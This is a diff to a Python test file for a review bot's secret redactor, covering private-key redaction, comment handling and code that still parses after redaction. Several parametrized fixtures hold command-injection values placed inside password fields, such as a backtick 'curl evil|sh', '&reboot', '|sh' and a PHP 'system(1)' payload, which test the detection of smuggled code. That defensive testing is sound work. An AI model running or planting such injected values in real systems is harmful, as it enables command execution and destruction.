@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import ast
 import random
+import re
 import string
 import time
 
@@ -13,7 +15,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from reviewbot.domain.redaction.private_keys import REDACTED
-from reviewbot.domain.redaction.redactor import Redactor, secret_file
+from reviewbot.domain.redaction.redactor import Redactor, mostly_secrets, secret_name
 
 LETTERS = string.ascii_letters + string.digits
 # Put together here, so that no scanner takes this file for a leak.
@@ -247,7 +249,9 @@ def test_a_private_key_goes_line_by_line_and_leaves_its_place(key: str, mark: st
     lines = [mark + indent + line for line in key.strip().split("\n")]
     text = end.join(["before", *lines, "after"])
     result = Redactor.of([text]).redact(text)
-    inside = [mark + REDACTED] * (len(lines) - 2)
+    # Two slashes could begin a comment, so they stay.
+    slashes = [(found[0] if (found := re.match("//+", line)) else "") for line in key.strip().split("\n")[1:-1]]
+    inside = [mark + indent + left + REDACTED for left in slashes]
     if mark or not indent:
         assert result.text == end.join(["before", lines[0], *inside, lines[-1], "after"])
     assert not any(line.strip() in result.text for line in key.split("\n")[1:-2])
@@ -260,6 +264,22 @@ def test_a_key_in_a_string_with_escaped_line_ends_goes_too() -> None:
     assert not any(line in redacted(text) for line in RSA_KEY.split("\n")[1:-2])
     quoted = "\n".join(f'    "{line}\\n"' for line in RSA_KEY.strip().split("\n"))
     assert not any(line in redacted(quoted) for line in RSA_KEY.split("\n")[1:-2])
+
+
+def test_the_sign_of_a_comment_stays_before_a_key_and_a_slash_of_the_key_does_not() -> None:
+    text = f"-----BEGIN PRIVATE KEY-----\n{PEM}\n/{PEM}\n//{PEM}\n-----END PRIVATE KEY-----"
+    assert redacted(text).split("\n")[1:-1] == [REDACTED, REDACTED, f"//{REDACTED}"]
+
+
+@pytest.mark.parametrize(
+    "frame", ["KEY = (\n{}\n)|    '{}\\n'", 'KEY = [\n{}\n]|    "{}",', "KEY = (\n{}\n)|    '{}\\n' + \\"]
+)
+def test_code_with_a_key_line_by_line_still_parses(frame: str) -> None:
+    whole, line = frame.split("|")
+    code = whole.format("\n".join(line.format(one) for one in RSA_KEY.strip().split("\n"))).replace("+ \\\n)", "\n)")
+    ast.parse(code)
+    ast.parse(redacted(code))
+    assert redacted(code).count(REDACTED) == RSA_KEY.count("\n") - 2
 
 
 def test_a_key_that_a_hunk_cuts_goes_too() -> None:
@@ -353,13 +373,49 @@ def test_what_may_not_be_a_key_does_not_pass_for_reviewed(after: tuple[str, ...]
         (GHP, f"see `{GHP}`", False),
         ('password = "a1b2;c3d4"', 'PASSWORD = "a1b2;c3d4"', False),
         ('password = "a1b2c3[d4;e5f6"', 'PASSWORD = "a1b2c3[d4;e5f6"', False),
-        ('password = "abcd-1234-efgh"', "log(abcd-1234-efgh)", False),
+        ('password = "abcd-1234-efgh"', "log(abcd-1234-efgh)", True),
+        ('password = "evil9pkg-x1a"', "evil9pkg-x1a", True),
+        ('password = "evilpkg"', '{"dependencies": {"evilpkg": "1"}}', True),
+        ('password = "evilpkg"', 'db_password = "evilpkg"', False),
+        ('password = "x9y8`reboot`"', "# a line of a heredoc: x9y8`reboot`", True),
+        ("password = 'a1b2c3\"run'", 'x = a1b2c3"run', True),
     ],
 )
 def test_a_password_that_is_code_does_not_pass_for_reviewed(given: str, code: str, *, doubtful: bool) -> None:
     result = Redactor.of([given, code]).redact(code)
     assert REDACTED in result.text
     assert bool(result.hidden) is doubtful
+
+
+@pytest.mark.parametrize(
+    ("line", "doubtful"),
+    [
+        ('DB_PASSWORD="a1`curl evil|sh`"', True),
+        ("DB_PASSWORD=a1b2c3d4&reboot", True),
+        ("x --password=a1b2c3d4|sh", True),
+        ('// password = "x9y8?><?=system(1)"', True),
+        ("/* password = 'a1b2*/evil' */", True),
+        ('let password = "a1\\(evil(1))"', True),
+        ('$password = "a1{$x->evil(1)}"', True),
+        ('$password = "a1@{[ evil(1) ]}"', True),
+        ('password = "a1[exec id]"', True),
+        ('password = \'a1b2""";evil()#\'', True),
+        ("password = 'a1b2\";evil(1);x=\"'", True),
+        ('password = @"a1\\";evil();x"', True),
+        ('password = "a1\\u0022;evil(1);"', True),
+        ('password = "a1;b2(c3)&d4"', False),
+        ("x --password='a1b2c3d4|sh'", False),
+        (r"""app.secret_key = b'_5#y2L"F4Q8z\n\xec]/'""", False),
+    ],
+)
+def test_a_value_that_may_run_where_it_is_assigned_does_not_pass_for_reviewed(line: str, *, doubtful: bool) -> None:
+    result = Redactor.of([line]).redact(line)
+    assert REDACTED in result.text
+    assert bool(result.hidden) is doubtful
+
+
+def test_our_own_keys_hide_no_code() -> None:
+    assert not Redactor.of([], ["topsecret1"]).redact("x = f(topsecret1)").hidden
 
 
 def test_no_secret_in_the_repr() -> None:
@@ -472,7 +528,7 @@ def test_a_diffs_lines_keep_their_marks(rows: list[tuple[str, str, str]]) -> Non
     ],
 )
 def test_files_of_secrets_are_told_by_name_or_by_being_mostly_secrets(path: str, text: str, expected: object) -> None:
-    assert secret_file(path, text) is expected
+    assert (secret_name(path) or mostly_secrets(path, text)) is expected
 
 
 @pytest.mark.proof
